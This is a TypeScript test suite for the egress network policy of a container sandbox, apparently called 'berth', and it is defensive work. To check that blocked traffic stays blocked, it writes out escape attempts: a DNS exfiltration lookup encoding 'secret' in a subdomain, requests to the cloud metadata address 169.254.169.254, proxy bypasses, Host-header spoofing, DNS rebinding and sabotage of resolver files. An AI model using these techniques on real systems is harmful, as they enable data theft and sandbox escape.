import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer as createHttpServer, type RequestListener, type Server } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { pipeline } from 'node:stream/promises';
import Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { WebSocketServer } from 'ws';
import type {
  CreateOptions,
  NetworkDecision,
  NetworkPolicy,
  Sandbox,
  SandboxHost,
} from '../../../src/sandbox/index.ts';
import { SandboxHost as Host } from '../../../src/sandbox/index.ts';
import { type NameServer, openNameServer } from '../../support/name-server.ts';

/** Every name that a test has; what it resolves to can change from one question to the next. */
const names: Record<string, string[] | (() => string[])> = {
  'web.test': ['127.0.0.1'],
  'other.test': ['127.0.0.1'],
  'sub.web.test': ['127.0.0.1'],
  'inner.test': ['127.0.0.1'],
  'mixed.test': ['127.0.0.1', '10.9.9.9'],
};

let nameServer: NameServer;
let host: SandboxHost;
let stateDir: string;

beforeAll(async () => {
  nameServer = await openNameServer(names);
  stateDir = await mkdtemp(join(tmpdir(), 'berth-test-net-'));
  host = await Host.open({ stateDir, dns: [nameServer.address] });
});

afterAll(async () => {
  for (const { id } of await host.list()) await host.remove(id);
  await host.close();
  await rm(stateDir, { recursive: true, force: true });
  await nameServer[Symbol.asyncDispose]();
});

/** A server on this machine's loopback, which a policy has to name by its address too. */
async function serve(listener: RequestListener): Promise<{ port: number; server: Server }> {
  const server = createHttpServer(listener);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return { server, port: (server.address() as AddressInfo).port };
}

async function sandboxWith(
  network: NetworkPolicy,
  options: CreateOptions = {},
): Promise<{ sandbox: Sandbox; decisions: NetworkDecision[] }> {
  const sandbox = await host.create({ ...options, network });
  onTestFinished(() => sandbox.remove());
  const decisions: NetworkDecision[] = [];
  sandbox.observeNetwork((decision) => decisions.push(decision));
  return { sandbox, decisions };
}

const saysHello: RequestListener = (request, response) => {
  response.end(`hello ${request.method} ${request.headers.host}${request.url}`);
};

test('every command has the variables of the way out, in both cases, also in a session, a terminal and a login shell', async () => {
  const { sandbox } = await sandboxWith({ allow: ['web.test'] });
  const names = ['HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'NO_PROXY'].flatMap((name) => [name, name.toLowerCase()]);
  const count = `env | grep -cE '^(${names.join('|')})='`;
  await using session = await sandbox.session();
  const { stdout: inLogin } = await sandbox.exec(['env', '-i', 'bash', '-lc', count]);
  const { stdout: inExec } = await sandbox.exec(count);
  const { stdout: inSession } = await session.exec(count);
  await using pty = await sandbox.pty({ command: count, cols: 80, rows: 24 });
  const inTerminal = await text(pty.output);
  expect([inExec, inLogin, inSession, inTerminal.trimEnd()].map(Number)).toEqual(Array(4).fill(names.length));
});

describe('an allowed name', () => {
  test('is reached by programs that know proxies, and by those that know none', async () => {
    const { port } = await serve(saysHello);
    const { sandbox, decisions } = await sandboxWith({ allow: [`web.test:${port}`, `127.0.0.1:${port}`] });
    const url = `http://web.test:${port}/path?x=1`;
    const hello = `hello GET web.test:${port}/path?x=1`;
    const fetch = `fetch('${url}').then(async (r) => console.log(await r.text()))`;
    const ways = {
      curl: ['curl', '-sS', url],
      'curl by SOCKS': ['curl', '-sS', '--proxy', 'socks5h://127.0.0.1:3128', url],
      'curl by CONNECT': ['curl', '-sS', '--proxytunnel', url],
      'curl without a proxy': ['curl', '-sS', '--noproxy', '*', url],
      'fetch of Node': ['node', '-e', fetch],
      'fetch of Node without a proxy': ['env', '-u', 'NODE_USE_ENV_PROXY', 'node', '-e', fetch],
      'python, without a proxy': [
        ...['env', '-i', 'python3', '-c'],
        `import socket; s = socket.create_connection(('web.test', ${port})); s.sendall(b'GET /path?x=1 HTTP/1.0\\r\\nHost: web.test:${port}\\r\\n\\r\\n'); print(s.makefile().read().split('\\n')[-1])`,
      ],
    };
    for (const [way, command] of Object.entries(ways)) {
      const { stdout, stderr } = await sandbox.exec(command);
      expect([way, stdout.trim(), stderr]).toEqual([way, hello, '']);
    }
    // Each is told when its connection has ended, which is after the answer.
    await expect.poll(() => decisions.length).toBe(Object.keys(ways).length);
    expect(
      decisions.every(
        ({ allowed, rule, address }) => allowed && rule === `web.test:${port}` && address === '127.0.0.1',
      ),
    ).toBe(true);
    expect(decisions[0]).toMatchObject({ host: 'web.test', port, method: 'GET', path: '/path' });
    expect(decisions[0]?.bytesIn).toBeGreaterThan(hello.length);
    expect(decisions[0]?.bytesOut).toBeGreaterThan(url.length);
    expect(decisions[0]?.durationMs).toBeGreaterThan(0);
  });

  test('has an address of the loopback in the sandbox; every other name does not exist, and nothing is asked outside', async () => {
    const { sandbox } = await sandboxWith({ allow: ['web.test', '*.web.test', '127.0.0.1'] });
    const asked = nameServer.asked.length;
    const look = (name: string) =>
      sandbox.exec(['python3', '-c', `import socket; print(socket.getaddrinfo('${name}', 80)[0][4][0])`]);
    expect((await look('web.test')).stdout).toMatch(/^127\.64\./);
    expect((await look('sub.web.test')).stdout).toMatch(/^127\.64\./);
    expect((await sandbox.exec(['getent', 'hosts', 'web.test'])).stdout).toMatch(/^127\.64\.\S+ +web\.test\n$/);
    const leak = await look('c2VjcmV0.exfil.other.test');
    expect(leak.exitCode).toBe(1);
    expect(leak.stderr).toMatch(/not known|No address/);
    expect(nameServer.asked.slice(asked)).toEqual([]);
    expect((await sandbox.exec('head -n 1 /etc/resolv.conf')).stdout.trim()).toBe('nameserver 127.0.0.1');
  });

  test('is found again whatever a command that is root has made of the files that say who is asked', async () => {
    const { sandbox } = await sandboxWith({ allow: ['web.test'] }, { user: 'root' });
    const found = async () => (await sandbox.exec(['getent', 'hosts', 'web.test'])).stdout;
    await sandbox.exec(
      'cd /etc; cp nsswitch.conf kept; rm resolv.conf nsswitch.conf; mkfifo resolv.conf nsswitch.conf',
    );
    await sandbox.stop();
    await sandbox.start();
    await sandbox.exec('mv /etc/kept /etc/nsswitch.conf');
    expect(await found()).toMatch(/^127\.64\./);
    await sandbox.exec('rm /etc/resolv.conf; ln -s nowhere /etc/resolv.conf');
    await sandbox.setNetwork({ allow: ['web.test', 'other.test'] });
    expect(await found()).toMatch(/^127\.64\./);
  });

  test('is decided on anew for each connection, by the addresses that it has then', async () => {
    const { port } = await serve(saysHello);
    let answers = 0;
    // The first time an address that is allowed, the second time the one of a neighbour.
    names['rebound.test'] = () => [answers++ === 0 ? '127.0.0.1' : '127.0.0.2'];
    const { sandbox, decisions } = await sandboxWith({ allow: [`rebound.test:${port}`, `127.0.0.1:${port}`] });
    const command = ['curl', '-sS', `http://rebound.test:${port}/`];
    expect((await sandbox.exec(command)).stdout).toContain('hello');
    expect(answers).toBe(1); // what was decided on is what is connected to
    expect((await sandbox.exec(command)).stdout).toContain('has the address 127.0.0.2, which is not public');
    expect(decisions.map(({ allowed }) => allowed)).toEqual([true, false]);
  });
});

describe('what no rule allows', () => {
  test.each(['none', 'allow', 'open'] as const)('is not reached, in whatever way, with the policy %s', async (kind) => {
    const seen: string[] = [];
    const { port } = await serve((request, response) => {
      seen.push(`${request.headers.host}${request.url}`);
      if (request.url === '/redirect') response.writeHead(302, { location: `http://other.test:${port}/stolen` });
      response.end('ok');
    });
    const secret = createTcpServer((socket) => {
      seen.push('tcp');
      socket.end();
    });
    secret.listen(0, '127.0.0.1');
    await once(secret, 'listening');
    onTestFinished(() => void secret.close());
    const secretPort = (secret.address() as AddressInfo).port;
    const policy = kind === 'allow' ? { allow: [`web.test:${port}`, `127.0.0.1:${port}`] } : kind;
    const { sandbox, decisions } = await sandboxWith(policy);
    // It is attached to no network of the engine.
    const { NetworkSettings } = await new Docker().getContainer(`berth-${sandbox.id}`).inspect();
    expect(NetworkSettings).toMatchObject({ Networks: {}, SandboxKey: '' });
    const url = (host: string, at = port) => `http://${host}:${at}/`;
    const tries: Record<string, string[]> = {
      'another name': ['curl', '-sS', url('other.test')],
      'a name below': ['curl', '-sS', url('sub.web.test')],
      'another port': ['curl', '-sS', url('web.test', secretPort)],
      'an address': ['curl', '-sS', url('10.0.0.1')],
      metadata: ['curl', '-sS', 'http://169.254.169.254/latest/meta-data/'],
      IPv6: ['curl', '-sS', `http://[::ffff:127.0.0.1]:${secretPort}/`],
      'a redirect': ['curl', '-sSL', `${url('web.test')}redirect`],
      'another host than the header': ['curl', '-sS', '-H', `Host: web.test:${port}`, url('other.test')],
      'CONNECT to another port': ['curl', '-sS', '--proxytunnel', url('web.test', secretPort)],
      'SOCKS to an address': ['curl', '-sS', '-x', 'socks5://127.0.0.1:3128', url('127.0.0.1', secretPort)],
      'around the proxy': ['curl', '-sS', '--noproxy', '*', '--max-time', '5', url('127.0.0.1', secretPort)],
      'by its own variables': ['env', 'no_proxy=*', 'curl', '-sS', '--max-time', '5', url('other.test')],
      'a raw socket': ['python3', '-c', `import socket; socket.create_connection(('10.0.0.1', ${port}), 5)`],
      'the engine’s bridge': ['curl', '-sS', '--noproxy', '*', '--max-time', '5', url('172.17.0.1')],
      'several addresses, one private': ['curl', '-sS', url('mixed.test')],
    };
    for (const [how, command] of Object.entries(tries)) {
      const { stdout, stderr, exitCode } = await sandbox.exec(command);
      const isRefused = exitCode !== 0 || /no rule allows|not public|public addresses only/.test(stdout);
      expect([how, isRefused, `${stdout}${stderr}`]).toEqual([how, true, expect.anything()]);
    }
    expect(seen).toEqual(kind === 'allow' ? [`web.test:${port}/redirect`] : []);
    expect(decisions.filter(({ allowed }) => allowed).map(({ path }) => path)).toEqual(
      kind === 'allow' ? ['/redirect'] : [],
    );
    expect((await sandbox.exec('tail -n +3 /proc/net/dev')).stdout.trim()).toMatch(/^lo:[^\n]*$/);
  });

  test('is told to the program, with the rule that is missing', async () => {
    const { port } = await serve(saysHello);
    const { sandbox } = await sandboxWith({ allow: [`web.test:${port}`, `127.0.0.1:${port}`] });
    const url = `http://other.test:${port}/`;
    expect((await sandbox.exec(['curl', '-sS', url])).stdout).toBe(
      `berth: no rule allows other.test:${port} for GET /.\nto allow it, add 'other.test:${port}' to network.allow of the sandbox.\n`,
    );
    const told = `no rule allows other.test:443; to allow it, add 'other.test:443' to network.allow of the sandbox`;
    const overTls = {
      curl: 'curl -sSv https://other.test',
      npm: 'npm install --registry https://other.test greeting',
    };
    for (const [client, command] of Object.entries(overTls)) {
      expect([client, (await sandbox.exec(command)).stderr]).toEqual([
        client,
        expect.stringContaining(`403 berth: ${told}`),
      ]);
    }
    const socks = ['curl', '-sS', '-x', 'socks5h://127.0.0.1:3128', url];
    expect((await sandbox.exec(socks)).stderr).toContain('connection to other.test. (2)'); // not allowed by the ruleset
  });

  test('are other methods and paths in plain HTTP too, by the proxy and without', async () => {
    const seen: string[] = [];
    const { port } = await serve((request, response) => {
      seen.push(`${request.method} ${request.url}`);
      response.end('hello');
    });
    const rule = { host: 'web.test', ports: [port], methods: ['GET'], paths: ['/a/'] };
    const ofAll = { host: 'other.test', ports: [port], methods: ['OPTIONS'] };
    const { sandbox } = await sandboxWith({ allow: [rule, ofAll, `127.0.0.1:${port}`] });
    const url = `http://web.test:${port}`;
    const ways = {
      'whole URLs': '',
      CONNECT: '--proxytunnel',
      SOCKS: '-x socks5h://127.0.0.1:3128',
      names: "--noproxy '*'",
    };
    for (const [way, options] of Object.entries(ways)) {
      const commands = ['-H "X-HTTP-Method: POST"', '-X POST', ''].map(
        (more) => `curl -sS ${options} ${more} ${url}/a/x`,
      );
      const { stdout } = await sandbox.exec([...commands, `curl -sS ${options} ${url}/b`].join('; '));
      expect([way, stdout.replaceAll(`no rule allows web.test:${port}`, 'no').match(/hello|no for.*/g)]).toEqual([
        way,
        ['no for POST /a/x.', 'no for POST /a/x.', 'hello', 'no for GET /b.'],
      ]);
    }
    expect(seen).toEqual(Object.keys(ways).map(() => 'GET /a/x'));
    const all = "curl -sS --noproxy '*' -X OPTIONS --request-target '*'";
    const { stdout } = await sandbox.exec(`${all} http://other.test:${port}/; ${all} ${url}/`);
    expect(stdout).toContain(`helloberth: no rule allows web.test:${port} for OPTIONS *`);
    expect(seen.at(-1)).toBe('OPTIONS *');
  });

  test('is nothing at all with the policy none, and no variable says that there is a way', async () => {
    const { sandbox } = await sandboxWith('none');
    expect((await sandbox.exec('env | grep -i proxy; tail -n +3 /proc/net/dev | cut -d: -f1')).stdout.trim()).toBe(
      'lo',
    );
    expect((await sandbox.exec(['curl', '-sS', 'http://web.test/'])).stderr).toContain('resolve');
    expect((await sandbox.exec(['curl', '-sS', 'http://127.0.0.1:3128/'])).stderr).toContain('onnect');
  });

  test('are addresses that are not public, with the policy open', async () => {
    const { port } = await serve(saysHello);
    const { sandbox, decisions } = await sandboxWith('open');
    for (const to of ['127.0.0.1', '[::1]', '10.0.0.1', '169.254.169.254', 'web.test', 'mixed.test']) {
      const { stdout } = await sandbox.exec(['curl', '-sS', '--noproxy', '', `http://${to}:${port}/`]);
      expect(stdout).toContain("network: 'open' allows public addresses only");
    }
    expect(decisions.filter(({ allowed }) => allowed)).toEqual([]);
  });
});

describe('a connection', () => {
  test('carries a stream of events as they come, and a WebSocket both ways', async () => {
    const { port, server } = await serve((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write('data: first\n\n');
      const timer = setInterval(() => response.write('data: more\n\n'), 50);
      response.on('close', () => clearInterval(timer));
    });
    const sockets = new WebSocketServer({ server });
    sockets.on('connection', (socket) => socket.on('message', (data) => socket.send(`echo ${data}`)));
    onTestFinished(() => {
      for (const socket of sockets.clients) socket.terminate();
      sockets.close();
    });
    const { sandbox } = await sandboxWith({ allow: [`web.test:${port}`, `127.0.0.1:${port}`] });
    const events = await sandbox.exec(`curl -sN http://web.test:${port}/ | head -n 3`);
    expect(events.stdout).toBe('data: first\n\ndata: more\n');
    const script = `
      const socket = new WebSocket('ws://web.test:${port}/');
      socket.onopen = () => socket.send('hi');
      socket.onmessage = ({ data }) => { console.log(data); socket.close(); };
      socket.onerror = ({ message }) => { console.log('failed', message); process.exit(1); };`;
    expect((await sandbox.exec(['node', '-e', script])).stdout.trim()).toBe('echo hi');
    const plain = ['env', '-u', 'NODE_USE_ENV_PROXY', 'node', '-e', script];
    expect((await sandbox.exec(plain)).stdout.trim()).toBe('echo hi');
  });

  test('carries large bodies both ways, exactly', async () => {
    const size = 64 * 1024 * 1024;
    const chunk = randomBytes(1024 * 1024);
    const wanted = createHash('sha256');
    for (let sent = 0; sent < size; sent += chunk.length) wanted.update(chunk);
    const digest = wanted.digest('hex');
    let received = '';
    const { port } = await serve(async (request, response) => {
      if (request.method === 'PUT') {
        const hash = createHash('sha256');
        await pipeline(request, hash);
        received = hash.digest('hex');
        response.end();
      } else {
        await pipeline(Readable.from(Array(size / chunk.length).fill(chunk)), response);
      }
    });
    const { sandbox } = await sandboxWith({ allow: [`web.test:${port}`, `127.0.0.1:${port}`] });
    const { stdout, stderr } = await sandbox.exec(
      `curl -sS http://web.test:${port}/ -o big && sha256sum < big && curl -sS -T big http://web.test:${port}/`,
    );
    expect([stdout.slice(0, 64), stderr]).toEqual([digest, '']);
    expect(received).toBe(digest);
  });

  test('carries a body whose length stands behind thousands of fields, and an answer with as many', async () => {
    const { port } = await serve((request, response) => {
      const many = Array.from({ length: 2_100 }, () => ['a', '1']).flat();
      response.writeHead(200, [...many, 'x-last', 'here']);
      request.pipe(response);
    });
    const { sandbox } = await sandboxWith({ allow: [`web.test:${port}`, `127.0.0.1:${port}`] });
    const fields = 'for i in $(seq 2100); do printf "a: 1\\n"; done > fields';
    const { stdout } = await sandbox.exec(`${fields}; curl -sS -i -H @fields -d body http://web.test:${port}/`);
    expect(stdout).toMatch(/^x-last: here\r$/m);
    expect(stdout).toMatch(/body$/);
  });

  test('that a new policy does not allow is cut, another one goes on', async () => {
    const { port } = await serve((_request, response) => {
      response.writeHead(200);
      const timer = setInterval(() => response.write('.'), 20);
      response.on('close', () => clearInterval(timer));
    });
    const address = `127.0.0.1:${port}`;
    const { sandbox } = await sandboxWith({ allow: [`web.test:${port}`, `other.test:${port}`, address] });
    const follow = async (name: string) => {
      const process = await sandbox.spawn(['curl', '-sSN', `http://${name}:${port}/`]);
      await once(process.stdout, 'data');
      return process;
    };
    const [cut, kept] = [await follow('web.test'), await follow('other.test')];
    await sandbox.setNetwork({ allow: [`other.test:${port}`, address] });
    expect((await cut.wait()).exitCode).not.toBe(0);
    await once(kept.stdout, 'data');
    expect((await sandbox.exec(['curl', '-sS', `http://web.test:${port}/`])).stdout).toContain('no rule allows');
    await sandbox.setNetwork('none');
    expect((await kept.wait()).exitCode).not.toBe(0);
    expect((await sandbox.exec('env | grep -ci proxy')).stdout.trim()).toBe('0');
    await sandbox.setNetwork({ allow: [`other.test:${port}`, address] });
    await follow('other.test');
  });

  test('is there again after a stop and a start', async () => {
    const { port } = await serve(saysHello);
    const { sandbox } = await sandboxWith({ allow: [`web.test:${port}`, `127.0.0.1:${port}`] });
    await sandbox.stop();
    await sandbox.start();
    expect((await sandbox.exec(['curl', '-sS', `http://web.test:${port}/`])).stdout).toContain('hello');
  });

  test('waits when there are as many as there may be; more bytes than there may be cut all', async () => {
    const { port } = await serve((request, response) => {
      if (request.url === '/big') response.end(Buffer.alloc(64 * 1024 * 1024));
      else setTimeout(() => response.end('ok'), 300);
    });
    const allow = [`web.test:${port}`, `127.0.0.1:${port}`];
    const { sandbox, decisions } = await sandboxWith({ allow, maxConnections: 2, maxBytes: 512 * 1024 });
    const urls = Array.from({ length: 6 }, (_, i) => `http://web.test:${port}/${i}`);
    const { stdout } = await sandbox.exec(`for u in ${urls.join(' ')}; do curl -sS --max-time 20 $u & done; wait`);
    expect(stdout).toBe('ok'.repeat(6));
    expect((await sandbox.exec(['curl', '-sS', `http://web.test:${port}/big`])).exitCode).not.toBe(0);
    expect((await sandbox.exec(['curl', '-sS', `http://web.test:${port}/1`])).stdout).toContain('maxBytes');
    expect(decisions.at(-1)).toMatchObject({ allowed: false, reason: expect.stringContaining('maxBytes') });
  });
});

test('a program that is answered before all that it sends was read has the whole answer, and its end', async () => {
  const { port } = await serve((request, response) => {
    request.pause();
    response.end(`hello ${'x'.repeat(100_000)}`);
  });
  const { sandbox } = await sandboxWith({ allow: [`web.test:${port}`, `127.0.0.1:${port}`] });
  const post = `head -c 20000000 /dev/zero | curl -sS --max-time 20 -X POST -H Expect: -T - http://web.test:${port}/ | wc -c`;
  for (let i = 0; i < 3; i++) {
    const { stdout, stderr } = await sandbox.exec(post);
    expect([stdout.trim(), stderr]).toEqual(['100006', '']);
  }
});

test('a program that connects and goes without a word takes no place of others', async () => {
  const { port } = await serve(saysHello);
  const { sandbox } = await sandboxWith({ allow: [`web.test:${port}`, `127.0.0.1:${port}`], maxConnections: 2 });
  const silent = `import socket
for _ in range(4): socket.create_connection(('127.0.0.1', 3128)).close()`;
  expect((await sandbox.exec(['python3', '-c', silent])).exitCode).toBe(0);
  const { stdout } = await sandbox.exec(['curl', '-sS', '--max-time', '20', `http://web.test:${port}/`]);
  expect(stdout).toContain('hello GET');
});

test('a rule that is none is refused before a sandbox is made', async () => {
  await expect(
    host.create({ id: 'bad-rule', network: { allow: ['web.test', 'https://x.test/'] } }),
  ).rejects.toMatchObject({
    name: 'InvalidOptionsError',
    message: expect.stringMatching(/network\.allow.*leave out scheme/),
  });
  expect(await host.list()).toEqual([]);
});

test('a program that goes leaves no requests behind that it had asked for one behind the other', async () => {
  const { port, server } = await serve(() => {});
  const { sandbox } = await sandboxWith({ allow: [`127.0.0.1:${port}`] });
  const asked = once(server, 'request');
  const code = `
    const { hostname, port } = new URL(process.env.http_proxy);
    const socket = require('net').connect(port, hostname);
    socket.write('GET http://127.0.0.1:${port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.repeat(20));
    process.stdin.once('end', () => socket.destroy()).resume();`;
  const program = await sandbox.spawn(['node', '-e', code]);
  await asked;
  const open = () => new Promise((resolve) => server.getConnections((_error, count) => resolve(count)));
  await expect.poll(open).toBe(20);
  program.stdin.end();
  await expect.poll(open).toBe(0);
});
